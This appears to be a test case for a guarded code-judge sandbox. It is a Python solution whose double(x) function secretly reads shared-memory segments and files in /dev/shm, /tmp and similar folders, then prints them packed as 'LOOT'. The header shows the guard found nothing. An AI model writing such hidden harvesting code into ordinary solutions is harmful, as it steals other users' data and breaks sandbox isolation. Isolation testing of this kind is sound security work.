# No segment of shared memory, of either kind, can be found.
# verdict: accepted
# problem: trial/guarded
# says: taken: 0
import base64
import ctypes
import os
import zlib


def show(collected):
    """Print everything, packed; the test unpacks it and searches."""
    data = repr(collected).encode("utf-8", "backslashreplace") if not isinstance(collected, bytes) else collected
    for start in range(0, len(data), 1 << 20):
        print("LOOT", base64.b64encode(zlib.compress(data[start : start + (1 << 20)], 9)).decode())


def double(x):
    libc, taken = ctypes.CDLL(None, use_errno=True), []
    libc.shmat.restype = ctypes.c_long
    for number in range(256):
        place = libc.shmat(number, None, 0o10000)
        if place != -1:
            taken.append(ctypes.string_at(place, 4096))
    for folder in ("/dev/shm", "/dev/mqueue", "/tmp", "/var/tmp", "/run/shm"):
        for attack in (lambda: os.listdir(folder), lambda: open(f"{folder}/@MARK@", "rb").read()):
            try:
                taken.append(attack())
            except OSError:
                continue
    show(taken)
    print("taken:", len(taken))
    return 2 * x
